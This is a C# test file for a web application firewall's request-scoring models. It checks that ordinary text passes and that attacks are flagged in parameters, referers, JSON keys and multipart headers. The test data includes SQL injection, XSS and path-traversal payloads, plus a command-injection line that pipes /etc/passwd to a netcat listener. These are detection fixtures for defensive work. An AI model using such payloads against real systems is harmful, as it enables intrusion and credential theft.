using System.Text;
using WafOperator.Fixtures;
using WafOperator.Http;
using WafOperator.Protocols.Policies;
using WafOperator.Protocols.Status;
using WafOperator.Scoring.Ensemble;
using WafOperator.Scoring.Parts;
using PartKind = WafOperator.Protocols.Policies.PartKind;

namespace WafOperator.Scoring.Tests;

public sealed class RequestScorerTests(ReleasedModels models) : IClassFixture<ReleasedModels>
{
    private static readonly ExclusionProgram NoExclusions = new([]);

    [Theory]
    [InlineData("green tea, 100 g")]
    [InlineData("O'Brien & Sons <info@obrien.example>")]
    [InlineData("please select a gift from the list for me")]
    public void Score_OfOrdinaryText_IsNoRisk(string value)
    {
        var result = Score(models.Program(models.Policy()), value);

        Assert.Equal((ScoringOutcome.Scored, RiskLevel.None), (result.Outcome, result.Risk));
    }

    [Theory]
    [InlineData("1' UNION SELECT username, password FROM users-- -")]
    [InlineData("<svg/onload=alert(document.domain)>")]
    [InlineData("../../../../../../etc/passwd")]
    [InlineData("%2527%2520or%25201=1--")]
    public void Score_OfAnAttack_IsCriticalAndNamesThePart(string value)
    {
        var result = Score(models.Program(models.Policy()), value);

        Assert.Equal((RiskLevel.Critical, RiskActionKind.Block), (result.Risk, result.Action));
        Assert.Equal("query:q", result.Part);
        Assert.NotNull(result.Excerpt);
        Assert.Contains(result.Models, m => m.Model == "gate" && m.Outcome == "Scored");
    }

    /// <summary>Long values are read and scored to their ends, not only as far as a first buffer reaches.</summary>
    [Theory]
    [InlineData(9_000, 0)]
    [InlineData(0, 9_000)]
    public void Score_OfAnAttackFarInsideALongText_IsCriticalAndShowsIt(int before, int behind)
    {
        const string Attack = "1' union select username, password from users where id=1 or 1=1-- - "
            + "<script>alert(document.cookie)</script> ../../../../../../etc/passwd ; cat /etc/passwd | nc 10.0.0.1 4444 "
            + "<svg/onload=alert(document.domain)> 1' or '1'='1";

        var result = Score(models.Program(models.Policy()), Words(before) + Attack + Words(behind));

        Assert.Equal(RiskLevel.Critical, result.Risk);
        Assert.Contains(result.Excerpt![8..40], Attack, StringComparison.Ordinal);
    }

    /// <summary>What a page loads names the page's address, with what was typed into its form.</summary>
    [Theory]
    [InlineData("http://shop.example:36105/?s=a+%7C%7C+b+%26%26+c")]
    [InlineData("http://shop.example/doku.php?id=start&do=search&q=a+||+b+%26%26+c")]
    [InlineData("https://www.search.example/search?client=firefox&q=grep+-r+foo+|+sort")]
    [InlineData("https://shop.example/notes?q=%22exact+phrase%22+-without&page=2")]
    public void Score_OfAnOrdinaryReferer_IsNoRisk(string referer) =>
        Assert.Equal(RiskLevel.None, ScoreReferer(referer).Risk);

    [Theory]
    [InlineData("http://shop.example/?a=1' union select password from users-- -")]
    [InlineData("http://shop.example/?a=1%27+union+select+password+from+users--+-")]
    [InlineData("http://shop.example/?a=b&c=%3Cscript%3Ealert(document.cookie)%3C/script%3E")]
    [InlineData("http://shop.example/?%3Csvg/onload=alert(document.domain)%3E")]
    [InlineData("http://shop.example/?a=../../../../../../etc/passwd")]
    [InlineData("http://shop.example/..%2f..%2f..%2f..%2f..%2fetc/passwd")]
    [InlineData("http://shop.example/#%3Csvg/onload=alert(document.domain)%3E")]
    [InlineData("http://shop.example?a=%3Cscript%3Ealert(document.cookie)%3C/script%3E")]
    [InlineData("<script>alert(document.cookie)</script>")]
    [InlineData("http://shop.example/?q=%27+alert(document.cookie)+%27")]
    [InlineData("http://shop.example/?q=1%27+(select+password+from+users)+%27")]
    public void Score_OfAnAttackInAReferer_IsCritical(string referer)
    {
        var result = ScoreReferer(referer);

        Assert.Equal((RiskLevel.Critical, "header:referer"), (result.Risk, result.Part));
    }

    [Theory]
    [InlineData("%27+alert(1)+%27", true)]
    [InlineData("'+x", true)]
    [InlineData("a+%28select+1)", true)]
    [InlineData("a)+b", true)]
    [InlineData("green+tea+%26+%3Ccake", false)]
    [InlineData("+", false)]
    [InlineData("", false)]
    public void PlusBesideAQuoteOrBracket_JoinsTexts(string piece, bool joins) =>
        Assert.Equal(joins, RefererUrl.JoinsTexts(Encoding.ASCII.GetBytes(piece)));

    private ScoringResult ScoreReferer(string referer)
    {
        var request = new CanonicalRequest();
        request.Begin("GET", "/style.css", "HTTP/1.1");
        request.AddHeader("Host", "shop.example");
        request.AddHeader("Referer", referer);
        request.EndHeaders();
        request.EndBody();
        return ReleasedModels.Scorer.Score(
            models.Program(models.Policy()), NoExclusions, request, new ScoringFacts { Route = "" });
    }

    private static string Words(int length) =>
        string.Concat(Enumerable.Repeat("the garden was full of apples and people ", (length / 41) + 1))[..length];

    [Theory]
    [InlineData("1' UNION SELECT username, password FROM users-- -", "sqli")]
    [InlineData("<svg/onload=alert(document.domain)>", "xss")]
    [InlineData("../../../../../../etc/passwd", "path-traversal")]
    [InlineData("; cat /etc/passwd | nc 10.0.0.1 4444", "cmdi")]
    public void Score_OfAnAttack_TellsTheFamily(string value, string family)
    {
        var result = Score(models.Program(models.Policy()), value);

        Assert.Equal(family, result.Family);
        Assert.Equal("ARGS:q", result.Variable);
        Assert.All(result.Models.Where(m => m.Outcome == "Scored"), m => Assert.Equal(family, m.Family));
    }

    [Fact]
    public void Score_WithRulesThatMatched_IsHigherByTheirEvidence()
    {
        var program = models.Program(models.Policy());
        var nothing = Score(program, "O'Brien = 1", []);
        var matched = Score(program, "O'Brien = 1", [942100, 942190, 942360]);
        var unknown = Score(program, "O'Brien = 1", [900990, 920300, 1]);

        Assert.True(matched.Score > nothing.Score);
        Assert.Equal(nothing.Score, unknown.Score);
    }

    /// <summary>
    /// Rules read few headers at the first level, so their silence about one counts nothing; about a parameter it does.
    /// </summary>
    [Fact]
    public void Score_OfAHeaderInWhichNoRuleMatched_IsTheModelsOwn()
    {
        var program = models.Program(models.Policy());
        const string Doubtful = "for Anna; uname -a and more";
        var (alone, beside) = (OfHeader(program, Doubtful, null), OfHeader(program, Doubtful, []));

        Assert.InRange(alone, 0.01, 0.99);
        Assert.Equal(alone, beside);
        Assert.True(Score(program, Doubtful, []).Score < Score(program, Doubtful).Score);
    }

    private static double OfHeader(ScoringProgram program, string value, IReadOnlyList<RuleHit>? hits)
    {
        var request = new CanonicalRequest();
        request.Begin("GET", "/", "HTTP/1.1");
        request.AddHeader("Host", "shop.example");
        request.AddHeader("X-Note", value);
        request.EndHeaders();
        request.EndBody();
        return ReleasedModels.Scorer.Score(
            program, NoExclusions, request, new ScoringFacts { Route = "", Hits = hits }).Score;
    }

    [Theory]
    [InlineData(";")]
    [InlineData("\"")]
    [InlineData("||")]
    [InlineData("---")]
    [InlineData("%3B")]
    public void Score_OfASeparatorByItself_IsThatOfAPlainWord(string value)
    {
        var program = models.Program(models.Policy());

        Assert.Equal(Score(program, "tea").Score, Score(program, value).Score);
    }

    [Fact]
    public void Score_WithoutRulesInThePolicy_IsTheModelsOwn()
    {
        var program = models.Program(models.Policy());

        Assert.Equal(0, Score(program, "1' UNION SELECT username, password FROM users-- -").RuleEvidence);
        Assert.True(
            Score(program, "1' UNION SELECT username, password FROM users-- -", [942100]).RuleEvidence > 0);
    }

    [Theory]
    [InlineData("/s?class.module.classLoader.URLs[0]=0", "query name")]
    [InlineData("/s?constructor[prototype][admin]=1&__proto__.x=1", "query name")]
    public void Score_OfANameThatNavigates_ScoresTheName(string target, string part)
    {
        var request = new CanonicalRequest();
        request.Begin("GET", target, "HTTP/1.1");
        request.AddHeader("Host", "shop.example");
        request.EndHeaders();
        request.EndBody();
        var result = ReleasedModels.Scorer.Score(
            models.Program(models.Policy()), NoExclusions, request, new ScoringFacts { Route = "" });

        Assert.True(result.Risk >= RiskLevel.Medium, $"score {result.Score}");
        Assert.Equal(part, result.Part);
    }

    /// <summary>Names are the client's to choose as well, and so is what stands before them.</summary>
    [Theory]
    [InlineData("{\"a b\":{\"c\":{\"1' UNION SELECT username, password FROM users-- -\":1}}}", "body name")]
    [InlineData("{\"/\":{\"../../../../../../etc/passwd\":1}}", "body name")]
    public void Score_OfAnAttackBehindAnOddKey_IsThatOfTheAttack(string json, string part)
    {
        var result = ScoreBody("application/json", json);

        Assert.True(result.Risk >= RiskLevel.High, $"score {result.Score}");
        Assert.Equal(part, result.Part);
    }

    [Fact]
    public void Score_OfAnAttackFarInsideALongKey_IsThatOfTheAttack()
    {
        const string Attack = "1' UNION SELECT username, password FROM users-- - <script>alert(1)</script>";
        var key = Words(20_000) + Attack + Words(9_000);

        Assert.True(ScoreBody("application/json", $"{{\"{key}\":1}}").Risk >= RiskLevel.High);
    }

    [Theory]
    [InlineData("X-Own: 1' UNION SELECT username, password FROM users-- -")]
    [InlineData("Content-Type: text/plain; x=\"<svg/onload=alert(document.domain)>\"")]
    public void Score_OfAnAttackInAPartsHeader_IsThatOfTheAttack(string line)
    {
        var result = ScoreBody(
            "multipart/form-data; boundary=B",
            $"--B\r\nContent-Disposition: form-data; name=\"a\"\r\n{line}\r\n\r\ntea\r\n--B--\r\n");

        Assert.True(result.Risk >= RiskLevel.High, $"score {result.Score}");
        Assert.Equal("part header:a", result.Part);
    }

    private ScoringResult ScoreBody(string type, string body)
    {
        var request = new CanonicalRequest();
        request.Begin("POST", "/notes", "HTTP/1.1");
        request.AddHeader("Host", "shop.example");
        request.AddHeader("Content-Type", type);
        request.EndHeaders();
        request.AppendBody(System.Text.Encoding.UTF8.GetBytes(body));
        request.EndBody();
        return ReleasedModels.Scorer.Score(
            models.Program(models.Policy()), NoExclusions, request, new ScoringFacts { Route = "" });
    }

    [Theory]
    [InlineData(EnsembleKind.Weighted)]
    [InlineData(EnsembleKind.Any)]
    public void Score_InTheOtherEnsembles_TellsAttackFromText(EnsembleKind ensemble)
    {
        var program = models.Program(models.Policy(ensemble));

        Assert.True(Score(program, "1' UNION SELECT username, password FROM users-- -").Risk >= RiskLevel.High);
        Assert.Equal(RiskLevel.None, Score(program, "green tea").Risk);
    }

    /// <summary>With one that no score reaches, the model flags nothing; the other models would.</summary>
    [Theory]
    [InlineData(null, true)]
    [InlineData(1.0, false)]
    public void Threshold_OfAModel_IsWhereItFlagsInTheEnsembleAny(double? threshold, bool flags)
    {
        var policy = models.Policy(EnsembleKind.Any);
        var program = models.Program(policy with
        {
            Models = [.. policy.Models.Select(model => model with { Threshold = threshold })],
        });

        Assert.Equal(flags, Score(program, "1' UNION SELECT username, password FROM users-- -").Risk >= RiskLevel.High);
    }

    [Fact]
    public void Score_WithAnExclusionForTheParameter_LeavesItOutAndSaysSo()
    {
        var exclusions = new ExclusionProgram(
        [
            new Exclusion { Name = "search-box", Path = "/search", Part = PartKind.Parameter, PartName = "q", Models = ["gate", "payload-cnn"] },
        ]);
        var result = ReleasedModels.Scorer.Score(
            models.Program(models.Policy()), exclusions, ReleasedModels.Search("1' UNION SELECT 1,2,3-- -"), new ScoringFacts { Route = "" });

        Assert.Equal(["search-box"], result.Exclusions);
        Assert.Equal(["search-box"], result.ChangedBy);
        Assert.Equal(RiskLevel.None, result.Risk);
    }

    [Fact]
    public void Score_WithoutTime_IsTimedOut()
    {
        var policy = models.Policy() with { LatencyBudget = TimeSpan.Zero };

        Assert.Equal(ScoringOutcome.TimedOut, Score(models.Program(policy), "x' or 1=1").Outcome);
    }

    [Fact]
    public void Score_WithoutTheModel_IsUnavailable()
    {
        var policy = models.Policy() with { Models = [new ModelAssignment { Model = "other" }] };

        Assert.Equal(ScoringOutcome.Unavailable, Score(models.Program(policy), "x").Outcome);
    }

    [Fact]
    public void Score_OfABenignRequest_AllocatesNothingAfterWarmUp()
    {
        var program = models.Program(models.Policy());
        var request = ReleasedModels.Search("green tea, 100 g (organic)");
        for (var i = 0; i < 200; i++) ScoreRequest(program, request);

        Assert.Equal(0, Allocations.LeastOf(() =>
        {
            for (var i = 0; i < 200; i++) ScoreRequest(program, request);
        }));
    }

    [Fact]
    public void Score_DuringARollout_CountsPairsAndArms()
    {
        var blob = models.Blob("gate");
        var policy = models.Policy();
        policy = policy with
        {
            Models = [policy.Models[0] with { Candidate = blob, CandidateWeightPercent = 100, RolloutSalt = "s" }, policy.Models[1]],
        };
        var program = models.Program(policy);
        for (var i = 0; i < 50; i++) Score(program, i % 2 == 0 ? "green tea" : "1' UNION SELECT username, password FROM users-- -");

        var counters = Assert.Single(program.Tallies).Read();
        Assert.Equal((50, 0), (counters.CandidateDecided, counters.BaselineDecided));
        Assert.Equal((25, 25), (counters.PairsB0C0, counters.PairsB1C1));
        Assert.Equal(0, counters.PairsB0C1 + counters.PairsB1C0);
        Assert.True(counters.CandidateLatency.Sum() > 0);
        Assert.Equal(RolloutCounters.LatencyBuckets.Count + 1, counters.BaselineLatency.Count);
    }

    private static ScoringResult Score(ScoringProgram program, string value, IReadOnlyList<long>? rules = null)
    {
        var request = ReleasedModels.Search(value);
        var hits = rules?.Select(id => new RuleHit(
            id, null, HitPlace.Part, request.QueryArguments[0].Value, -1)).ToList();
        return ReleasedModels.Scorer.Score(
            program, NoExclusions, request, new ScoringFacts { Route = "", Hits = hits });
    }

    private static void ScoreRequest(ScoringProgram program, CanonicalRequest request) =>
        ReleasedModels.Scorer.Score(program, NoExclusions, request, new ScoringFacts { Route = "" });
}
